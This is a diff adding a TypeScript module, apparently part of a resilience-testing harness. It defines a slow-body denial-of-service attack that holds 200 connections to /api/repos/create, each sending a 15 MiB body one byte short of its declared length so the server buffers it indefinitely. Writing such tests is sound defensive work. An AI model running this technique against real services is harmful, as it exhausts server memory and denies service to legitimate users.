@@ -1,0 +1,27 @@
+import { type Attack, holdOpen } from "../attack.ts";
+
+const MIB = 1024 ** 2;
+const CONNECTIONS = 200;
+const BODY_MIB = 15;
+
+/** Anonymous: bodies as large as an address takes, of which the last byte never comes. They are kept in memory until it does. */
+export const slowBodies: Attack = {
+  id: "A2",
+  name: `${CONNECTIONS} bodies of ${BODY_MIB} MiB to /api/repos/create that do not end`,
+  async prepare(_stage, attackers) {
+    const body = Buffer.alloc(BODY_MIB * MIB, " ");
+    const headers = { "Content-Type": "application/json", "Content-Length": String(body.length + 1) };
+    let held = { most: 0 };
+    return {
+      async run(signal) {
+        held = await holdOpen(CONNECTIONS, signal, () => {
+          const socket = attackers.open(attackers.head("POST", "/api/repos/create", headers));
+          socket.write(body, () => (attackers.tally.sentBytes += body.length));
+          socket.resume();
+          return socket;
+        });
+      },
+      got: () => [`${CONNECTIONS} connections wanted, ${held.most || "as many"} held`],
+    };
+  },
+};
